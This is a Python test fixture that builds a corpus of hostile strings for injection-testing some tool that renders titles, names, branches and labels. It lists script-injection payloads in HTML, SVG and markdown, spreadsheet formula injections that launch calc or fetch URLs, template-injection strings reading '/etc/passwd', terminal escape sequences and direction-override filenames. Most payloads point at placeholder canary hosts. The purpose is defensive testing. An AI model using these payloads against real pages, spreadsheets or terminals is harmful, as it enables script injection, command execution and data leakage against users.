"""Texts that an attacker could write into a title, a name, a branch, a label, an environment or a team.

Each would ask a server (`http://canary-N.test/…`) or set the page's title, if anything of it came to life.
"""

import json
from collections import Counter
from collections.abc import Sequence

_TITLE = "document.title='owned'"
_HTML = (
    "<script>{title}</script>",
    "<script src={url}></script>",
    "<ScRiPt>{title}</sCrIpT>",
    "</title><script>{title}</script>",
    "</style><script>{title}</script>",
    "</textarea><script>{title}</script>",
    "--><script>{title}</script><!--",
    "]]><script>{title}</script>",
    "<img src={url}>",
    "<img src=x onerror={title}>",
    "<img srcset='{url} 2x'>",
    "<image href={url}>",
    "<picture><source srcset={url}><img></picture>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<script>parent.{title}</script>'></iframe>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<link rel=stylesheet href={url}>",
    "<link rel=prefetch href={url}>",
    "<link rel=preconnect href={url}>",
    "<link rel=icon href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}>",
    "<style>@import '{url}';</style>",
    "<style>body{{background:url({url})}}</style>",
    "<style>@font-face{{font-family:x;src:url({url})}}*{{font-family:x}}</style>",
    "<b style='background:url({url})'>x</b>",
    "<body background={url} onload={title}>",
    "<table background={url}>",
    "<video src={url} autoplay></video>",
    "<video poster={url}></video>",
    "<audio src={url} autoplay></audio>",
    "<track src={url}>",
    "<input type=image src={url}>",
    "<input autofocus onfocus={title}>",
    "<form action={url}><button autofocus>send</button></form>",
    "<a href={url} ping={url}>x</a>",
    "<a href=javascript:{title}>x</a>",
    "<details open ontoggle={title}>",
    "<marquee onstart={title}>",
    "<select autofocus onfocus={title}>",
    "<template><script>{title}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={title}>'>",
    "<frameset onload={title}><frame src={url}></frameset>",
    "<isindex action={url} type=image>",
    "<portal src={url}></portal>",
    "<plaintext>",
    "<!--",
    "<xmp><script>{title}</script></xmp>",
    "</table></section></main></body></html><script>{title}</script>",
    '"><script>{title}</script>',
    "'><script>{title}</script>",
    '" onmouseover="{title}" x="',
    "' autofocus onfocus='{title}' x='",
    "` onerror={title} `",
    "&lt;script&gt;{title}&lt;/script&gt;",
    "&#60;script&#62;{title}&#60;/script&#62;",
    "+ADw-script+AD4-{title}+ADw-/script+AD4-",
    "{{{{ ''.__class__ }}}} {{% include '/etc/passwd' %}}",
    "${{{title}}} <%= 1 %> #{{1}}",
)
_SVG = (
    "<svg onload={title}>",
    "<svg><script>{title}</script></svg>",
    "<svg><script href={url} /></svg>",
    "<svg><image href={url} width=9 height=9 /></svg>",
    "<svg><image xlink:href={url} width=9 height=9 /></svg>",
    "<svg><use href={url}#x /></svg>",
    "<svg><style>@import '{url}';</style></svg>",
    "<svg><animate onbegin={title} attributeName=x dur=1s></svg>",
    "<svg><foreignObject><img src={url}></foreignObject></svg>",
    "</svg></title></desc><img src={url}>",
    "<math><mtext></mtext><img src={url}></math>",
    "<math><maction actiontype=statusline xlink:href={url}>x</maction></math>",
)
_MARKDOWN = (
    "![x]({url})",
    "[x]({url})",
    "[x](javascript:{title})",
    "<{url}>",
    "[x]: {url}\n\n[x]",
    "{url} www.canary.test",
    "| a | b |\n|---|---|",
    "# head\n\n<img src={url}>",
    "```html\n<img src={url}>\n```",
    "> quote\n- [ ] task @mira #1",
    "*b* _i_ ~~s~~ `c` $x$ {{: onclick={title}}}",
)
_FORMULAS = (
    '=HYPERLINK("{url}","x")',
    '=WEBSERVICE("{url}")',
    '=IMPORTXML("{url}","//a")',
    "=cmd|'/c calc'!A1",
    '=1+1","=2+2',
    "+1+1",
    "-1+cmd|' /c calc'!A1",
    '@SUM(1;1)*IMPORTDATA("{url}")',
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\ufeff=1+1",
    "%0A=1+1",
    "|calc",
    '";=1+1;"',
)
_TERMINAL = (
    "\x1b]0;owned\x07title",
    "\x1b[2J\x1b[H\x1b[31mred",
    "\x1b]8;;{url}\x07link\x1b]8;;\x07",
    "\x1b]52;c;b3duZWQ=\x07",
    "\x9b31m\x90q\x9c",
    "a\x08\x08\x7f\x00b\x0bc",
)
_DIRECTION = (
    "\N{RIGHT-TO-LEFT OVERRIDE}fdp.exe",
    "\N{RIGHT-TO-LEFT ISOLATE}a\N{POP DIRECTIONAL ISOLATE}\N{POP DIRECTIONAL ISOLATE}\N{LEFT-TO-RIGHT OVERRIDE}b",
    "\N{RIGHT-TO-LEFT MARK}=1+1\N{ARABIC LETTER MARK}",
    "\u05e9\u05dc\u05d5\u05dd <img src={url}>",
    "a\u2028<script>{title}</script>\u2029b\N{ZERO WIDTH SPACE}",
)
_TEMPLATES = (*_HTML, *_SVG, *_MARKDOWN, *_FORMULAS, *_TERMINAL, *_DIRECTION)

HOSTILE_TEXTS = tuple(
    text.format(title=_TITLE, url=f"http://canary-{index}.test/x") for index, text in enumerate(_TEMPLATES)
)


class Attacker:
    """Writes a hostile text into each place, each of them in turn."""

    def __init__(self) -> None:
        self._used: Counter[str] = Counter()

    def __call__(self, place: str, text: str) -> str:  # noqa: ARG002 - an attacker does not care
        count = self._used[place]
        self._used[place] += 1
        return HOSTILE_TEXTS[(count + 7 * len(place)) % len(HOSTILE_TEXTS)]


def hostile_teams(repositories: Sequence[str]) -> str:
    """A teams file whose names are those of the hostile texts that can be a team's name."""
    names = [text for text in HOSTILE_TEXTS if text.isprintable() and "/" not in text and text == text.strip()]
    quoted = (json.dumps(name, ensure_ascii=False) for name in names[::4])
    return "\n".join(f"[teams.{name}]\nrepositories = {json.dumps(list(repositories))}" for name in quoted)
